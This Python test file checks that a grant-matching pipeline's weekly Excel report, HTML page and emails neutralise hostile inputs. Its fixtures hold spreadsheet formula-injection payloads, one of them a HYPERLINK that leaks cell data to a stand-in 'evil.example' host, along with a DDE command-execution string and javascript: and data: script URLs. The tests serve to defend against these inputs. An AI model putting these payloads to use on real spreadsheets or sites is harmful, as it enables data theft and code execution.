"""A week with odd programmes (relative, javascript:, tel:, #, data:, file: links, formula titles, a pagu
beyond 2^63, a 1900 window, no fiscal year) through the real ingestion, matching and weekly stage: the
list, report and emails are made, every link is http(s) or absent, no cell is a formula, and the
quarantine names each bad record with its reason."""

from __future__ import annotations

import email
import email.policy
import json
from datetime import date

import openpyxl
import pandas as pd
from sqlalchemy import select

from factories import add_innovation, add_opd
from nyengget.config import get_settings
from nyengget.notify.delivery import FileDelivery
from nyengget.pipeline.weekly import run_week
from nyengget.sources.ingest import ingest_source
from nyengget.warehouse.schema import programmes, quarantine
from nyengget.weekly.build import load_week

WEEK = date(2026, 11, 23)
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Hibah Sanitasi Air Limbah Kota")'
DDE = "+cmd|' /C calc'!A0 Bantuan Sanitasi Air Limbah"
BODY = ("<p>Kementerian membuka hibah sanitasi air limbah domestik tahun anggaran 2027 bagi pemerintah "
        "kabupaten/kota untuk pembangunan instalasi pengolahan air limbah komunal di permukiman padat.</p>"
        "<p>Peserta yang dapat mengajukan usulan adalah pemerintah kabupaten/kota. Usulan disampaikan paling "
        "lambat 20 Desember 2026.</p>")  # a call by its body: a submission window addressed to pemda
LINKS = {"/siaran-pers/hibah-sanitasi-relatif": "Hibah Sanitasi Air Limbah Relatif 2027",
         "javascript:void(0)": "Hibah Sanitasi Air Limbah Javascript 2027",
         "tel:+62-21-5201590": "Hibah Sanitasi Air Limbah Telepon 2027"}


def _rss() -> str:
    items = "".join(f"<item><title>{title}</title><link>{link}</link><pubDate>Mon, 16 Nov 2026 08:00:00 +0700"
                    f"</pubDate><content:encoded><![CDATA[{BODY}]]></content:encoded></item>"
                    for link, title in LINKS.items())
    return ('<?xml version="1.0" encoding="UTF-8"?><rss version="2.0" '
            'xmlns:content="http://purl.org/rss/1.0/modules/content/"><channel><title>Kemen</title>'
            f"<link>https://kemen.example.go.id/</link>{items}</channel></rss>")


def _entry(key: str, title: str, **kw) -> dict:
    return {"key": key, "title": title, "funding_type": "Hibah Daerah", "fiscal_year": 2027,
            "recipient_levels": ["kota"], "closes_on": "2026-12-20", "ceiling_idr": 2_000_000_000,
            "dates_source": "surat uji (test)",
            "description": "Hibah sanitasi air limbah domestik untuk instalasi pengolahan air limbah komunal kota.",
            **kw}


CURATED = {"source_url": "https://kemen.example.go.id/", "ministry": "Kemen PU", "entries": [
    _entry("formula", FORMULA, source_url="javascript:alert(document.cookie)"),
    _entry("dde", DDE, source_url="data:text/html;base64,PHNjcmlwdD4="),
    _entry("smb", "Hibah Sanitasi Air Limbah Berbagi 2027", source_url="smb://fileserver/share/juknis.pdf"),
    _entry("huge-pagu", "Hibah Pagu Raksasa", ceiling_idr=99_999_999_999_999_999_999_999),
    _entry("window-1900", "Hibah Jendela 1900", opens_on="1900-01-01", closes_on="1900-12-31"),
    _entry("no-fiscal-year", "Hibah Sanitasi Air Limbah Tanpa Tahun", fiscal_year=None),
]}


def _sources(tmp_path, monkeypatch, feed_url: str) -> None:
    (tmp_path / "odd.yaml").write_text(json.dumps(CURATED), encoding="utf-8")  # JSON is YAML
    (tmp_path / "sources.yaml").write_text(
        "sources:\n"
        f"  - {{name: feed, adapter: announcements, urls: ['{feed_url}'], pool: p, min_delay_s: 0, "
        "options: {funding_type: Hibah Daerah, fetch: {retries: 0}}}\n"
        "  - {name: odd, adapter: curated, urls: [odd.yaml], pool: p, min_delay_s: 0}\n", encoding="utf-8")
    monkeypatch.setenv("NYENGGET_SOURCES_FILE", str(tmp_path / "sources.yaml"))


def test_an_odd_week_is_made_whole_and_its_bad_records_are_named(engine, httpserver, tmp_path, monkeypatch):
    httpserver.expect_request("/robots.txt").respond_with_data("", status=404)
    httpserver.expect_request("/feed.xml").respond_with_data(_rss(), content_type="application/rss+xml")
    _sources(tmp_path, monkeypatch, httpserver.url_for("/feed.xml"))
    monkeypatch.setenv("NYENGGET_TOP_K", "10")
    add_opd(engine, "DPUPR", "Dinas Pekerjaan Umum dan Penataan Ruang", "DPUPR", "dpupr@serangkota.example.go.id")
    add_innovation(engine, "I1", "Sanitasi air limbah komunal", "DPUPR", urusan="Pekerjaan Umum",
                   description="Instalasi pengolahan air limbah domestik komunal dan sanitasi permukiman kota")
    for name in ("feed", "odd"):
        run = ingest_source(engine, name, WEEK)
        assert not run.get("failed"), (run["message"], run.get("error_details"))

    with engine.connect() as conn:
        urls = dict(conn.execute(select(programmes.c.title, programmes.c.source_url)).all())
        bad = conn.execute(select(quarantine.c.source, quarantine.c.field, quarantine.c.reason_en,
                                  quarantine.c.raw)).all()
    assert urls["Hibah Sanitasi Air Limbah Relatif 2027"] == httpserver.url_for("/siaran-pers/hibah-sanitasi-relatif")
    for title in ("Hibah Sanitasi Air Limbah Javascript 2027", "Hibah Sanitasi Air Limbah Telepon 2027", FORMULA,
                  DDE, "Hibah Sanitasi Air Limbah Berbagi 2027"):
        assert urls[title] is None, title
    named = {(r.source, r.field): r for r in bad}
    assert "Hibah Pagu Raksasa" in named["odd", "ceiling_idr"].raw and "10^16" in named["odd", "ceiling_idr"].reason_en
    assert "Hibah Jendela 1900" in named["odd", "opens_on"].raw and "1900" in named["odd", "opens_on"].reason_en

    result = run_week(engine, WEEK, delivery=FileDelivery(tmp_path / "out"))  # the whole week, never a crash
    with engine.connect() as conn:
        bad = conn.execute(select(quarantine.c.source, quarantine.c.field, quarantine.c.raw)).all()
    assert any(r.source == "matching" and r.field == "fiscal_year" and "Tanpa Tahun" in r.raw for r in bad)

    week = load_week(engine, WEEK)
    assert FORMULA in set(week.programme_title) and result.summary.rows == len(week) > 0
    assert all(u is None or u.startswith(("http://", "https://")) for u in week.source_url)

    book = openpyxl.load_workbook(result.xlsx)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + FORMULA in texts and not any(t.startswith(("=", "+", "-", "@")) for t in texts)
    links = [c.hyperlink.target for c in cells if c.hyperlink]
    assert links and all(t.startswith(("http://", "https://")) for t in links)

    html = result.html.read_text(encoding="utf-8")
    mails = [email.message_from_bytes(p.read_bytes(), policy=email.policy.default)
             for p in (tmp_path / "out").glob("*.eml")]
    digest = next(m for m in mails if str(m["To"]) == "dpupr@serangkota.example.go.id")
    for body in (html, digest.get_body(("html",)).get_content()):
        for scheme in ("javascript:", "tel:", "data:text", "smb:", "file:"):
            assert f'href="{scheme}' not in body, scheme
    assert len(mails) >= 2 and get_settings().outbox_dir  # the digest and the planners' summary


def test_programmes_lacking_eligibility_fields_are_ineligible_not_fatal(engine):
    from factories import add_programme
    from nyengget.weekly.matches import run_matching

    add_opd(engine, "DINKES", "Dinas Kesehatan", "Dinkes", "dinkes@serangkota.example.go.id")
    add_innovation(engine, "I1", "Posyandu sanitasi", "DINKES")
    add_programme(engine, "OK", "Hibah posyandu sanitasi", week=WEEK)
    add_programme(engine, "NOYEAR", "Hibah posyandu tanpa tahun", week=WEEK, fiscal_year=None)
    add_programme(engine, "NOLEVEL", "Hibah posyandu tanpa tingkat", week=WEEK, recipient_levels=None)
    add_programme(engine, "BADLEVEL", "Hibah posyandu desa", week=WEEK, recipient_levels="desa")
    assert run_matching(engine, WEEK) >= 1
    with engine.connect() as conn:
        bad = {json.loads(r.raw)["programme_id"]: r.field for r in conn.execute(
            select(quarantine).where(quarantine.c.source == "matching"))}
    assert bad == {"NOYEAR": "fiscal_year", "NOLEVEL": "recipient_levels", "BADLEVEL": "recipient_levels"}
    run_matching(engine, WEEK)  # a rerun replaces the week's quarantine rows, never duplicates them
    with engine.connect() as conn:
        assert len(conn.execute(select(quarantine).where(quarantine.c.source == "matching")).all()) == 3


def test_the_column_checks_find_every_row_the_row_rule_refuses():
    """split_ineligible checks one by one only the rows its column checks suspect: none that `_problem`
    refuses may slip through (dates beyond pandas' range, a ceiling one rupiah over the cap, blanks)."""
    from nyengget.sources.records import CEILING_MAX_IDR
    from nyengget.weekly.matches import _problem, split_ineligible

    rows = [
        ("OK", 2027, "kota", date(2027, 1, 5), None, 5_000_000),
        ("OK2", 2027, "Kabupaten; Kota", None, date(2040, 12, 31), CEILING_MAX_IDR),
        ("NOYEAR", None, "kota", None, None, None),
        ("NOLEVEL", 2027, None, None, None, None),
        ("EMPTYLEVEL", 2027, " ", None, None, None),
        ("DESA", 2027, "kota;desa", None, None, None),
        ("ANCIENT", 2027, "kota", date(1, 1, 1), None, None),
        ("EARLY", 2027, "kota", None, date(2014, 12, 31), None),
        ("FAR", 2027, "kota", date(9999, 12, 31), None, None),
        ("ZERO", 2027, "kota", None, None, 0),
        ("OVER", 2027, "kota", None, None, CEILING_MAX_IDR + 1),
    ]
    progs = pd.DataFrame(rows, columns=["programme_id", "fiscal_year", "recipient_levels", "opens_on", "closes_on",
                                        "ceiling_idr"]).assign(title="t")
    exact = progs.assign(ceiling_idr=pd.Series([r[5] for r in rows], dtype=object))  # ints beyond float's 2**53
    for frame, over_refused in ((progs, False), (exact, True)):  # as a float column 10**16 + 1 is the cap
        refused = [p["programme_id"] for p in frame.to_dict("records") if _problem(p)]
        kept, rejects = split_ineligible(frame)
        assert refused == [r.raw["programme_id"] for r in rejects]
        assert refused == [r[0] for r in rows[2:] if over_refused or r[0] != "OVER"]
        assert list(kept.programme_id) == ["OK", "OK2"] + ([] if over_refused else ["OVER"])
